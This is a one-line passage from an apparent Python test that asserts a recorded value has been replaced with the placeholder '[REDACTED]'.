    assert seen == [{"v": "[REDACTED]"}], seen
